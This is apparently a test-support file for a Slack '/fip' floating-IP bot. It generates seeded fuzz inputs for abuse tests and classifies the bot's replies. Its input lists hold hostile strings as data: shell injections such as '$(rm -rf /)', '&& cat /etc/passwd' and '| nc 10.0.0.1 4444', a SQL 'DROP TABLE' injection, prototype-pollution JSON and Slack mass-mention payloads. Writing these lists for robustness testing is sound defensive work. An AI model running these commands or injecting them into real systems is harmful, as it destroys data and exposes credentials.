/**
 * Generated /fip texts for the abuse suites: every command and alias with
 * wrong argument counts, then seeded random mixes of hostile pieces (unicode
 * with RTL marks, emoji and zero-width characters, very long words, shell and
 * regex metacharacters, SQL/JSON/mrkdwn injections, NUL and control
 * characters). The same seed gives the same texts, so a failure repeats.
 *
 * Pieces never contain words that are themselves internals ("undefined",
 * "[object Object]"): an answer that quotes the text back must not look
 * like a bug.
 *
 * Also here: sending them, classifying the answers, and checking the name
 * filters Nova received (shared by the abuse suite and the soak).
 */
import { parseCommand } from '../../src/slack/commands/parse.js';
import type { Interaction } from '../support/slack/simulator.js';
import { renderText } from '../support/slack/text.js';
import type { Harness } from '../slack/e2e/harness.js';
import { ackMessage, eventually } from './support.js';

/** mulberry32: small, fast, and the same sequence for the same seed on every platform. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const COMMAND_WORDS = [
  'list',
  'ls',
  'show',
  'create',
  'allocate',
  'new',
  'attach',
  'associate',
  'add',
  'detach',
  'disassociate',
  'remove',
  'release',
  'delete',
  'explain',
  'why',
  'diagnose',
  'help',
  '?',
  'LIST',
  'Attach',
  'atach',
  'relase',
  'lisst',
  'halp',
];

const UNICODE = [
  'ünïcødé',
  'сервер',
  '服务器',
  'サーバー',
  'שרת',
  'خادم',
  '\u202eweb-1',
  'web\u200f-1',
  '\u200eweb-1',
  '🔥',
  '👩‍💻',
  '🏳️‍🌈',
  '😀😀😀',
  'web\u200b-1',
  '\u200c',
  '\u200d',
  '\ufeffweb-1',
  'e\u0301',
  'Ω≈ç√',
  '𝔀𝓮𝓫',
  'ｗｅｂ－１',
  '\u00a0',
  '\u3000',
  'İ',
  'ß',
];
const LONG = ['a'.repeat(255), 'b'.repeat(256), 'web-1'.repeat(60), '😀'.repeat(300), `${'x'.repeat(250)}.*`, '1.'.repeat(200)];
const SHELL = [
  '$(rm -rf /)',
  '`reboot`',
  '; rm -rf / #',
  '&& cat /etc/passwd',
  '| nc 10.0.0.1 4444',
  '> /dev/sda',
  '$HOME',
  '${IFS}',
  "'",
  '"',
  '\\',
];
const REGEX = [
  'web-1.*',
  '.*',
  '^',
  '$',
  '.+',
  '(a+)+$',
  '[a-z]+',
  '\\d',
  '(?=x)',
  '[',
  '(',
  ')',
  '*',
  '+',
  '?',
  '{1,2}',
  'a|b',
  'web-1|db-1',
  '^web',
  'web$',
  '.',
  '[[:alpha:]]',
  '\\',
  'web-?1',
  '(?i)WEB',
];
const SQL = ["' OR 1=1 --", "'; DROP TABLE instances; --", '" OR ""="', '1; SELECT * FROM users', "admin'--", '%', '_', '%00'];
const JSON_BITS = [
  '{"port_id": null}',
  '{"$ne": null}',
  '[]',
  '{}',
  'null',
  'true',
  '{"__proto__": {"x": 1}}',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
];
const MRKDWN = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0BOB0001>',
  '<#C0OPS0001>',
  '<!subteam^S0ONCALL01>',
  '*bold*',
  '_it_',
  '~strike~',
  '`code`',
  '```block```',
  '<https://evil.example|web-1>',
  '<mailto:a@b.c|192.168.100.201>',
  '&lt;',
  '&amp;',
  '<>',
  '>quote',
];
const CONTROL = [
  '\u0000',
  'web\u0000-1',
  '\u0001',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r\n',
  '\u001b[31mred',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
];
const ADDRESSES = [
  '192.168.100.201',
  '192.168.100.202',
  '192.168.100.240',
  '192.168.100.999',
  '0.0.0.0',
  '255.255.255.255',
  '192.168.100.201/32',
  '::1',
  'fe80::1%eth0',
  '10.0.0.3',
  '1e3',
  '-1',
  '00000000-0000-0000-0000-000000000000',
  'new',
  'NEW',
  '192.168.100.201.',
  ' 192.168.100.201',
];
const OPTIONS = [
  '--fixed-ip',
  '--fixed-ip=',
  '--pool',
  '--pool=public',
  '--pool=<!channel>',
  '--fixed-ip=10.0.0.999',
  '—fixed-ip 10.0.0.3',
  '--unknown',
  '-f',
  '--',
  '---',
  '--fixed_ip=.*',
  '--POOL public',
  '–pool public-b',
];
const WORDS = [
  'web-1',
  'web-2',
  'test_instance',
  'db-1',
  'app-07',
  'public',
  'public-b',
  'free',
  'attached',
  'all',
  'private',
  'router1',
  '"web 1"',
  "'db-1'",
];

export const PIECES = [
  ...UNICODE,
  ...LONG,
  ...SHELL,
  ...REGEX,
  ...SQL,
  ...JSON_BITS,
  ...MRKDWN,
  ...CONTROL,
  ...ADDRESSES,
  ...OPTIONS,
  ...WORDS,
];
/** Valid commands, to be decorated: an abuser may also type something that works. */
const VALID = [
  'create public',
  'create',
  'new public-b',
  'attach 192.168.100.201 web-1',
  'attach web-1 192.168.100.201',
  'attach new web-1',
  'attach new db-1 --pool public-b',
  'add 192.168.100.201 app-07',
  'release 192.168.100.201',
  'delete 192.168.100.202',
  'detach 192.168.100.202',
  'detach 192.168.100.202 web-2',
  'explain web-1',
  'why test_instance',
  'list free',
];
const SEPARATORS = [' ', ' ', ' ', '  ', '\t', '\u00a0', '\u3000', ' \u200b '];

/** Every command and alias with 0 to 5 arguments: wrong counts for each. */
function argumentCounts(): string[] {
  const texts: string[] = [];
  const args = ['192.168.100.201', 'web-1', '10.0.0.3', 'public', 'extra', 'more'];
  for (const word of COMMAND_WORDS) for (let count = 0; count <= 5; count++) texts.push([word, ...args.slice(0, count)].join(' '));
  return texts;
}

/** `count` texts (at least): the argument-count grid first, then seeded random mixes. */
export function abuseTexts(count: number, seed = 20_261_128): string[] {
  const random = prng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const texts = argumentCounts();
  // Every piece alone, and as the argument of every command.
  for (const piece of PIECES) texts.push(piece);
  while (texts.length < count) {
    if (random() < 0.1) {
      // Decorated but valid: odd blanks between the words, odd case for the command word.
      const [first, ...rest] = pick(VALID).split(' ');
      texts.push(
        [random() < 0.5 ? first!.toUpperCase() : first!, ...rest].map((word, i) => (i === 0 ? word : pick(SEPARATORS) + word)).join(''),
      );
      continue;
    }
    const words: string[] = [];
    const shape = random();
    if (shape < 0.75) words.push(pick(COMMAND_WORDS));
    const args = Math.floor(random() * 5);
    for (let i = 0; i < args; i++) words.push(random() < 0.7 ? pick(PIECES) : pick([...ADDRESSES, ...WORDS]));
    let text = words.map((word, i) => (i === 0 ? word : pick(SEPARATORS) + word)).join('');
    if (random() < 0.05) text = text.repeat(2 + Math.floor(random() * 40));
    if (random() < 0.05) text = ` ${text}\n`;
    texts.push(text);
  }
  return texts;
}

/** What kind of answer a person got. */
export function kindOf(
  text: string,
): 'help' | 'question' | 'explanation' | 'confirmation' | 'list' | 'diagnosis' | 'nothing to do' | 'other' {
  if (text.includes('Nothing changes until you confirm')) return 'confirmation';
  // A clarifying question (which pool, which address): its title asks, and it comes with the choices.
  if (/^\*Which /m.test(text)) return 'question';
  if (/fipbot: floating IPs|is not a fipbot command|Did you mean|Usage: |\/fip help/.test(text)) return 'help';
  if (/:no_entry:|^Not allowed:|:lock:|Nothing was changed/m.test(text)) return 'explanation';
  if (/floating IPs? (?:in|of) |No floating IPs|Nova did not answer/i.test(text)) return 'list';
  if (/can take a floating IP|cannot take a floating IP|needs no floating IP|offers no floating-IP pool/.test(text)) return 'diagnosis';
  if (text.includes('Nothing to do.')) return 'nothing to do';
  return 'other';
}

/**
 * A Nova name filter fipbot built: `^` + escaped text (+ `$` for an exact
 * name). Escaped = every ASCII character other than a letter or digit comes
 * with a backslash, so no metacharacter of the person's text is live.
 */
export function isEscapedNameFilter(filter: string): boolean {
  if (!filter.startsWith('^')) return false;
  let body = filter.slice(1);
  if (body.endsWith('$') && !body.endsWith('\\$')) body = body.slice(0, -1);
  else if (body.endsWith('$')) {
    // "\$" at the end: an escaped dollar of a prefix search, or an escaped "\" followed by the anchor.
    const backslashes = /\\*\$$/.exec(body)![0].length - 1;
    if (backslashes % 2 === 0) body = body.slice(0, -1);
  }
  for (let i = 0; i < body.length; i++) {
    const char = body[i]!;
    const code = char.charCodeAt(0);
    const asciiPunctuation =
      (code >= 0x20 && code <= 0x2f) || (code >= 0x3a && code <= 0x40) || (code >= 0x5b && code <= 0x60) || (code >= 0x7b && code <= 0x7e);
    if (char === '\\') {
      const next = body.charCodeAt(i + 1);
      const escapable =
        (next >= 0x20 && next <= 0x2f) ||
        (next >= 0x3a && next <= 0x40) ||
        (next >= 0x5b && next <= 0x60) ||
        (next >= 0x7b && next <= 0x7e);
      if (!escapable) return false;
      i++;
    } else if (asciiPunctuation) return false;
  }
  return true;
}

/** Every `name=` Nova received, with how it was asked. */
export function novaNameFilters(h: Harness): string[] {
  return h.demo.stats
    .requests({ service: 'compute' })
    .map((r) => new URLSearchParams(r.query).get('name'))
    .filter((name): name is string => name !== null);
}

/** Sends `texts` (a few at a time, as a busy workspace would) and returns what each got. */
export async function sendAll(
  h: Harness,
  texts: string[],
  concurrency = 8,
): Promise<Array<{ text: string; ack: Interaction; answer: string | undefined; kind: string }>> {
  const results: Array<{ text: string; ack: Interaction; answer: string | undefined; kind: string }> = [];
  let next = 0;
  async function worker(): Promise<void> {
    while (next < texts.length) {
      const text = texts[next++]!;
      const views = h.sim.api.callsTo('views.open').length;
      const ack = await h.sim.slashCommand(text);
      let answer: string | undefined;
      const inAck = ackMessage(ack);
      if (inAck) answer = renderText(inAck);
      else if (ack.status === 200 && parseCommand(text).kind === 'modal') {
        // Nothing but blanks (zero-width, NBSP...): the form opens, as for a bare /fip.
        await eventually(() => h.sim.api.callsTo('views.open').length > views, 'the form to open', 10_000);
        answer = 'the form';
      } else if (ack.status === 200) {
        await eventually(() => h.sim.responses(ack.responseUrl!).length > 0, `an answer to "/fip ${JSON.stringify(text).slice(0, 80)}"`);
        answer = renderText(h.sim.responses(ack.responseUrl!)[0]!.body);
      }
      results.push({ text, ack, answer, kind: answer === 'the form' ? 'form' : kindOf(answer ?? '') });
    }
  }
  await Promise.all(Array.from({ length: concurrency }, worker));
  return results;
}
